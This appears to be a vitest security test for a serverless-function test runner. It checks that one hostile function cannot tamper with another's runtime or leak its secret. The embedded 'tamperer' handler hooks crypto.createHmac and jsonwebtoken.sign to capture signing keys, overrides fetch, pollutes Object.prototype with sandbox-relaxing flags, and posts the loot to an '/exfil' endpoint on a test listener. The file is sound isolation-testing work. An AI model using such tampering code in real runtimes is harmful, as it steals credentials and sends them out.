// Hostile handlers against the isolation promise: one function tampers at load time with every shared object it
// can reach, and another function, in ten fixture files of the same `fnsync test` run (so several of its
// sessions run in a worker after the tamperer's), still sees Segment's pristine world, and its secret reaches
// nobody: not the tamperer's replaced crypto, not the network.
import { createHmac } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { hostileProject, testProject, useListener } from './harness.js';

const listener = useListener();
const SECRET = 'victim-signing-key-4f1d';
const FILES = 10;

const tamperer = (url: string) => `
const stolen = [];
const keep = (v) => { try { stolen.push(String(v)); } catch {} };
const realHmac = crypto.createHmac;
crypto.createHmac = function (alg, key) { keep(key); return realHmac(alg, key); };
crypto.createHash = function () { throw new Error('tampered'); };
Buffer.prototype.toString = function () { return 'tampered'; };
Buffer.from = function () { return 'tampered'; };
moment.fn.format = function () { return 'tampered'; };
_.mixin({ map: () => 'tampered' });
Object.prototype.polluted = 'yes';
Object.prototype.allowCodeGeneration = true;
Object.prototype.allowNetwork = true;
Object.prototype.codeGeneration = { strings: true };
Array.prototype.map = function () { return 'tampered'; };
JSON.parse = function () { return 'tampered'; };
Date.prototype.toISOString = function () { return 'tampered'; };
String.prototype.toUpperCase = function () { return 'tampered'; };
Promise.prototype.then = ((then) => function (a, b) { return then.call(this, a, b); })(Promise.prototype.then);
URL.prototype.toString = function () { return 'tampered'; };
Headers.prototype.get = function () { return 'tampered'; };
zlib.zlib.gzipSync = function () { return 'tampered'; };
xml2js.parseString = function () { keep('xml2js'); };
jsonwebtoken.sign = function (payload, key) { keep(key); return 'tampered'; };
https.request = function () { throw new Error('tampered'); };
globalThis.fetch = ((real) => function (url, init) { keep(url); return real(url, init); })(fetch);
console.log = function () {};
setTimeout = function () { return 0; };
Error.prototype.toString = function () { return 'tampered'; };
Function.prototype.toString = function () { return 'tampered'; };
async function onTrack() {
  // Its own world is broken now (that is its business): the attempt to send the loot is not awaited.
  try { const form = new FormData(); form.append('loot', stolen.join(',')); form.submit('${url}/exfil', () => {}); } catch {}
  return stolen;
}
`;

const victim = `
async function onTrack(event, settings) {
  return {
    hmac: crypto.createHmac('sha256', settings.signingKey).update(event.event).digest('hex'),
    hash: crypto.createHash('sha1').update('x').digest('hex'),
    base64: Buffer.from('hello').toString('base64'),
    moment: moment.utc('2020-01-02T03:04:05Z').format('YYYY-MM-DD'),
    lodash: _.map([1, 2], (x) => x * 2),
    polluted: typeof ({}).polluted,
    evalBlocked: (() => { try { eval('1'); return 'eval ran'; } catch (e) { return e.name; } })(),
    arrays: [1, 2].map((x) => x + 1),
    json: JSON.parse('{"a":1}').a,
    date: new Date(0).toISOString(),
    upper: 'abc'.toUpperCase(),
    url: new URL('https://a.example/b').toString(),
    header: new Headers({ a: '1' }).get('a'),
    gzip: zlib.zlib.gunzipSync(zlib.zlib.gzipSync(Buffer.from('zz'))).toString(),
    jwt: jsonwebtoken.sign({ a: 1 }, 'k', { noTimestamp: true }).split('.').length,
    error: String(new Error('e')),
    fn: (function named() {}).toString().startsWith('function named'),
  };
}
`;

function victimFixture(n: number): string {
  const payload = `payload-${n}`;
  const expected = {
    hmac: createHmac('sha256', SECRET).update(payload).digest('hex'),
    hash: '11f6ad8ec52a2984abaafd7c3b516503785c2072',
    base64: 'aGVsbG8=',
    moment: '2020-01-02',
    lodash: [2, 4],
    polluted: 'undefined',
    evalBlocked: 'EvalError',
    arrays: [2, 3],
    json: 1,
    date: '1970-01-01T00:00:00.000Z',
    upper: 'ABC',
    url: 'https://a.example/b',
    header: '1',
    gzip: 'zz',
    jwt: 3,
    error: 'Error: e',
    fn: true,
  };
  return `settings:\n  signingKey: ${SECRET}\ncases:\n  - name: pristine world ${n}\n    event: { type: track, event: ${payload}, userId: u }\n    expect:\n      returned: ${JSON.stringify(expected)}\n`;
}

describe('one function tampering with everything it can reach', () => {
  it('changes nothing another function sees, in ten fixture files sharing its workers, and steals nothing', async () => {
    const fixtures: Record<string, string> = {};
    for (let n = 1; n <= FILES; n++) fixtures[`pristine-${String(n).padStart(2, '0')}.yaml`] = victimFixture(n);
    const dir = hostileProject({
      tamper: {
        type: 'destination',
        code: tamperer(listener.url),
        fixtures: {
          'steal.yaml': `cases:\n  - name: steals nothing\n    event: { type: track, event: x, userId: u }\n    expect:\n      returned: []\n`,
        },
      },
      victim: { type: 'destination', code: victim, settings: [{ name: 'signingKey', sensitive: true }], fixtures },
    });
    const before = listener.connections();
    const { cli, report } = await testProject(dir);
    const cases = report.functions.flatMap((f) => f.cases.map((c) => ({ fn: f.name, ...c })));
    expect(cases.filter((c) => c.status !== 'passed')).toEqual([]);
    expect(cases).toHaveLength(FILES + 1);
    expect(cli.code).toBe(0);
    expect(listener.connections()).toBe(before);
    expect(cli.stdout + cli.stderr).not.toContain(SECRET);
  });
});
